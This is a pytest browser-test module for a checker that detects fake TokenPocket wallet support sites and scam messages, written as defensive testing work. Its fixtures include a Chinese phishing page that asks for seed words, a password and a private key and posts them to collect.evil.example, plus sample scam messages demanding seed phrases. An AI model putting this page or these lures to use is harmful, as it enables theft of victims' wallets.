"""The web checker in a real browser: Debian's headless Chromium driven by Playwright.

No browser download: Playwright launches ``/usr/bin/chromium`` (``.ci/run`` installs it).
The app is served on a loopback port by werkzeug in a thread; a second loopback server
serves a fake "TokenPocket 客服" page under a strict CSP for the bookmarklet. Chromium maps the
fake page's name (``help-desk-24.top``) to 127.0.0.1, so nothing leaves the machine.
Screenshots go to ``test-artifacts/``. Without Chromium or Playwright the module is skipped,
unless ``CI`` is set: then it fails.
"""

from __future__ import annotations

import json
import os
import threading
from contextlib import contextmanager
from datetime import datetime, timedelta, timezone
from pathlib import Path
from urllib.parse import unquote

import pytest
from werkzeug.serving import make_server
from werkzeug.wrappers import Request, Response

from registry_fixtures import make_key, sign_doc
from verifier.config import SHIPPED_REGISTRY, Settings
from verifier.registry.schema import format_timestamp

CHROMIUM = Path("/usr/bin/chromium")
ARTIFACTS = Path(__file__).resolve().parent.parent / "test-artifacts"
FAKE_HOST = "help-desk-24.top"
LAUNCH_ARGS = [
    "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
    "--disable-sync", "--no-first-run", "--disable-quic", f"--host-resolver-rules=MAP {FAKE_HOST} 127.0.0.1",
]
TIMEOUT_MS = 10_000

try:
    from playwright.sync_api import sync_playwright
except ImportError:  # pragma: no cover - depends on the machine
    sync_playwright = None  # type: ignore[assignment]

_missing = [what for what, ok in (("chromium (/usr/bin/chromium)", CHROMIUM.exists()),
                                  ("the playwright package", sync_playwright is not None)) if not ok]
if _missing and not os.environ.get("CI"):
    pytest.skip(f"browser tests need {' and '.join(_missing)}; `.ci/run` installs them", allow_module_level=True)


# The fake support page: TokenPocket's name, a 12-word grid, a password, a form posting
# elsewhere, links to a fake Telegram "support" account, and a CSP that forbids everything.
FAKE_PAGE = """<!doctype html>
<html lang="zh-CN"><head><meta charset="utf-8"><title>TokenPocket 客服中心 - TP钱包官方</title></head>
<body>
<h1>TP钱包 人工客服</h1>
<p>您的钱包存在风险，请输入您的 12 个助记词完成验证，以免资产被冻结。</p>
<form action="https://collect.evil.example/submit" method="post">
  <div class="grid">
    {boxes}
  </div>
  <input type="password" name="pin" placeholder="钱包密码">
  <textarea name="note" placeholder="私钥（可选）"></textarea>
  <button type="submit">提交验证</button>
</form>
<p>在线客服：<a href="https://t.me/tokenpocket_kefu">Telegram 客服</a>
 <a href="https://tokenpocket-kefu.com/help">帮助中心</a></p>
</body></html>
""".replace("{boxes}", "\n    ".join(f'<div><input type="text" name="w{i}"></div>' for i in range(1, 13)))
FAKE_CSP = "default-src 'none'"


def _fake_site(environ, start_response):
    request = Request(environ)
    response = Response(FAKE_PAGE if request.path == "/kefu" else "not here", status=200 if request.path == "/kefu" else 404,
                        mimetype="text/html")
    response.headers["Content-Security-Policy"] = FAKE_CSP
    return response(environ, start_response)


class Served:
    """A WSGI app on 127.0.0.1, port 0, in a daemon thread."""

    def __init__(self, app) -> None:
        self.server = make_server("127.0.0.1", 0, app, threaded=True)
        self.port = self.server.server_port
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(5)


@pytest.fixture(scope="module")
def checker(tmp_path_factory):
    """The app on a loopback port, over a registry signed by an ephemeral key and valid now."""
    from verifier.web import create_app

    key = make_key()
    doc = json.loads(SHIPPED_REGISTRY.read_text(encoding="utf-8"))
    now = datetime.now(timezone.utc).replace(microsecond=0)
    doc["issued_at"] = format_timestamp(now - timedelta(hours=1))
    doc["expires_at"] = format_timestamp(now + timedelta(days=59))
    raw, sig = sign_doc(doc, key)
    directory = tmp_path_factory.mktemp("browser-registry")
    path = directory / "official_channels.json"
    path.write_bytes(raw)
    Path(f"{path}.minisig").write_bytes(sig)
    settings = Settings(registry_path=path, data_dir=directory / "var")
    served = Served(create_app({"SETTINGS": settings}, trusted_keys=(key.trusted,)))
    yield f"http://127.0.0.1:{served.port}"
    served.close()


@pytest.fixture(scope="module")
def fake_site():
    served = Served(_fake_site)
    yield f"http://{FAKE_HOST}:{served.port}"
    served.close()


@pytest.fixture(scope="module")
def browser():
    if _missing:
        pytest.fail(f"CI is set but the browser tests cannot run: missing {' and '.join(_missing)}")
    with sync_playwright() as playwright:
        # launch() gives every run a fresh, temporary user-data directory.
        launched = playwright.chromium.launch(executable_path=str(CHROMIUM), args=LAUNCH_ARGS, headless=True)
        yield launched
        launched.close()


class Console:
    """Console messages of a context, to assert that no CSP violation happened."""

    def __init__(self) -> None:
        self.messages: list[str] = []

    def __call__(self, message) -> None:
        self.messages.append(f"{message.type}: {message.text}")

    def csp_violations(self) -> list[str]:
        return [m for m in self.messages if "Content Security Policy" in m or "Refused to" in m]


@pytest.fixture
def context(browser):
    ctx = browser.new_context(locale="en-US", extra_http_headers={"Accept-Language": "en-US,en;q=0.9"})
    ctx.set_default_timeout(TIMEOUT_MS)
    console = Console()
    ctx.on("console", console)
    ctx.console = console  # type: ignore[attr-defined]
    yield ctx
    ctx.close()


def shot(page, name: str, *, full_page: bool = True) -> Path:
    ARTIFACTS.mkdir(exist_ok=True)
    path = ARTIFACTS / f"{name}.png"
    page.screenshot(path=str(path), full_page=full_page)
    return path


def paste_and_check(page, base: str, value: str, lang: str) -> None:
    page.goto(f"{base}/?lang={lang}")
    page.fill("textarea#input", value)
    with page.expect_navigation():
        page.click("button[type=submit]")


# --- paste and check ---------------------------------------------------------------------------


@pytest.mark.parametrize("lang, value, verdict, words", [
    ("en", "https://tokenpocket.pro/", "official", "Official"),
    ("zh", "https://tokenpocket.pro/", "official", "官方渠道"),
    ("en", "tokenpocket-kefu.com", "impersonation", "Not official: impersonation"),
    ("zh", "tokenpocket-kefu.com", "impersonation", "非官方：冒充"),
])
def test_paste_and_check(context, checker, lang, value, verdict, words):
    page = context.new_page()
    paste_and_check(page, checker, value, lang)
    shown = page.locator(".verdict-text")
    assert shown.get_attribute("data-verdict") == verdict
    assert shown.inner_text() == words
    assert page.locator(".verdict-icon").inner_text() in ("✔", "✘")
    assert page.locator("html").get_attribute("lang") == ("zh-CN" if lang == "zh" else "en")
    if verdict == "impersonation":
        assert "tokenpocket.pro" in page.locator(".imitates").inner_text()
        assert page.locator("form.report textarea[name=what_happened]").count() == 1
    shot(page, f"check-{verdict}-{lang}")
    assert not context.console.csp_violations()


def test_idn_two_forms(context, checker):
    page = context.new_page()
    paste_and_check(page, checker, "tоkenpocket.pro", "en")  # Cyrillic о
    assert page.locator("#idn-shown").inner_text() == "tоkenpocket.pro"
    assert page.locator("#idn-real").inner_text() == "xn--tkenpocket-evi.pro"
    assert page.locator(".verdict-text").get_attribute("data-verdict") == "impersonation"
    shot(page, "check-idn-en")
    assert not context.console.csp_violations()


def test_a_pasted_message_is_scanned(context, checker):
    page = context.new_page()
    message = "您好，我是TP钱包官方客服。\n请提供助记词进行验证，联系 https://t.me/tokenpocket_kefu"
    paste_and_check(page, checker, message, "zh")
    assert page.locator(".verdict-text").get_attribute("data-verdict") == "impersonation"
    assert page.locator("#message-text").inner_text() == message
    assert not context.console.csp_violations()


def test_language_switch_is_remembered(context, checker):
    page = context.new_page()
    page.goto(f"{checker}/")
    assert page.locator("html").get_attribute("lang") == "en"
    with page.expect_navigation():
        page.click(".lang-switch a[hreflang=zh]")
    assert page.locator("html").get_attribute("lang") == "zh-CN"
    page.goto(f"{checker}/bookmarklet")  # no ?lang=: the cookie decides, over Accept-Language: en
    assert page.locator("html").get_attribute("lang") == "zh-CN"
    cookies = context.cookies()
    assert [(c["name"], c["value"], c["sameSite"]) for c in cookies] == [("lang", "zh", "Lax")]
    assert not context.console.csp_violations()


# --- the bookmarklet on a page with a strict CSP ---------------------------------------------------


def test_bookmarklet_on_a_strict_csp_page(context, checker, fake_site):
    install = context.new_page()
    install.goto(f"{checker}/bookmarklet?lang=en")
    href = install.locator("a#bookmarklet").get_attribute("href")
    assert href.startswith("javascript:")
    shot(install, "bookmarklet-install-en")
    source = unquote(href[len("javascript:"):])  # what the browser runs when it is clicked

    fake = context.new_page()
    response = fake.goto(f"{fake_site}/kefu")
    assert response.headers["content-security-policy"] == FAKE_CSP
    # Chromium runs a clicked bookmarklet outside the page's CSP; evaluate is the closest automation.
    with fake.expect_popup() as popup_info:
        fake.evaluate(source)
    result = popup_info.value
    result.wait_for_load_state()
    assert result.url.startswith(f"{checker}/check?input=")
    assert "page=" in result.url and len(result.url) < 6500
    assert result.locator("#checked-value").inner_text() == f"{fake_site}/kefu"
    # The URL alone is only "not official"; what the page shows makes it an impersonation.
    assert result.locator(".verdict-text").get_attribute("data-verdict") == "impersonation"
    signs = set(result.locator("#page-signs li").evaluate_all("items => items.map(i => i.dataset.code)"))
    assert {"page_asks_secret", "page_seed_grid", "page_claims_brand", "page_links_fake_support",
            "page_password_field", "page_posts_elsewhere"} <= signs
    assert "page_summary_ignored" not in signs
    shot(result, "bookmarklet-result-en")
    assert not context.console.csp_violations(), context.console.messages


@contextmanager
def on_a_phone(browser, lang: str):
    """A 360 px wide touch screen in that language: its page, and its console (for CSP checks)."""
    phone = browser.new_context(viewport={"width": 360, "height": 740}, device_scale_factor=2, is_mobile=True,
                                has_touch=True, locale="zh-CN" if lang == "zh" else "en-US")
    try:
        console = Console()
        phone.on("console", console)
        yield phone.new_page(), console
    finally:
        phone.close()


# --- a victim reports, then follows the report ------------------------------------------------------


@pytest.mark.parametrize("lang, review", [("zh", "审核中"), ("en", "Under review")])
def test_report_from_the_result_page_and_follow_it(browser, checker, lang, review):
    """The form as a real browser sends it (Chromium's own Sec-Fetch-Site: same-origin passes the
    cross-site check), the thank-you page, its link to the status page, all on a phone screen."""
    with on_a_phone(browser, lang) as (page, console):
        page.goto(f"{checker}/check?input=tokenpocket-refund-{lang}.top&lang={lang}")
        page.fill("form.report textarea[name=what_happened]", "客服让我输入助记词 / asked for my seed phrase")
        with page.expect_navigation():
            page.click("form.report button[type=submit]")
        report_id = page.locator("#report-id").inner_text().strip()
        assert len(report_id) == 10
        shot(page, f"report-thanks-{lang}")
        with page.expect_navigation():
            page.click("#report-status-link")
        assert page.url.split("?")[0].endswith(f"/report/{report_id}")
        assert review in page.locator("#report-status").inner_text()
        assert page.evaluate("document.documentElement.scrollWidth") <= 360
        shot(page, f"report-status-{lang}")
        assert not console.csp_violations(), console.messages


# --- on a phone ------------------------------------------------------------------------------------


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_phone_width(browser, checker, lang):
    with on_a_phone(browser, lang) as (page, console):
        page.goto(f"{checker}/check?input=tokenpocket-kefu.com&lang={lang}")
        assert page.evaluate("document.documentElement.scrollWidth") <= 360
        box = page.locator(".verdict").bounding_box()
        assert box and box["width"] <= 360 and box["y"] < 200  # the verdict is the first thing seen
        shot(page, f"phone-360-result-{lang}")
        page.goto(f"{checker}/?lang={lang}")
        assert page.evaluate("document.documentElement.scrollWidth") <= 360
        shot(page, f"phone-360-home-{lang}")
        assert not console.csp_violations()


# --- a frightened victim pastes a scam message on a phone (issue 13) ----------------------------------

SCAM_MESSAGES = {
    "zh": ("您好，我是TP钱包官方客服。您的钱包已被冻结，请在24小时内提供助记词完成验证，并支付0.05 ETH解冻费。"
           "加微信 tpkf8888 或访问 tokenpocket-kefu[.]com"),
    "en": ("Hello, this is TokenPocket support. Your wallet is frozen: send your 12-word seed phrase within 24 hours "
           "to verify it at https://tokenpocket-support.top/verify"),
}


@pytest.mark.parametrize("lang, headline, reader", [
    ("zh", "这是诈骗", "本查询工具的维护人员"),
    ("en", "This is a scam", "maintainers of this checker"),
])
def test_a_scam_message_says_scam_then_reports_in_two_clicks(browser, checker, lang, headline, reader):
    with on_a_phone(browser, lang) as (page, console):
        paste_and_check(page, checker, SCAM_MESSAGES[lang], lang)
        assert page.locator(".verdict-text").inner_text() == headline
        assert (page.locator(".verdict").bounding_box() or {"y": 999})["y"] < 200  # the first thing seen
        steps = page.locator("#scam-steps > ol > li")
        assert steps.count() == 4 and steps.nth(0).is_visible()
        assert page.evaluate("document.documentElement.scrollWidth") <= 360
        shot(page, f"scam-message-{lang}")
        page.click("#report-message summary")  # click 1: the form opens, the channels already in it
        assert page.locator("#report-message textarea[name=what_happened]").input_value().strip()
        with page.expect_navigation():
            page.click("#report-message button[type=submit]")  # click 2
        assert page.locator("#report-id, #report-list a.report-id").count() >= 1
        who = page.locator("#report-who").inner_text()
        assert reader in who and "TokenPocket" in who
        assert page.evaluate("document.documentElement.scrollWidth") <= 360
        shot(page, f"scam-report-thanks-{lang}")
        assert not console.csp_violations(), console.messages
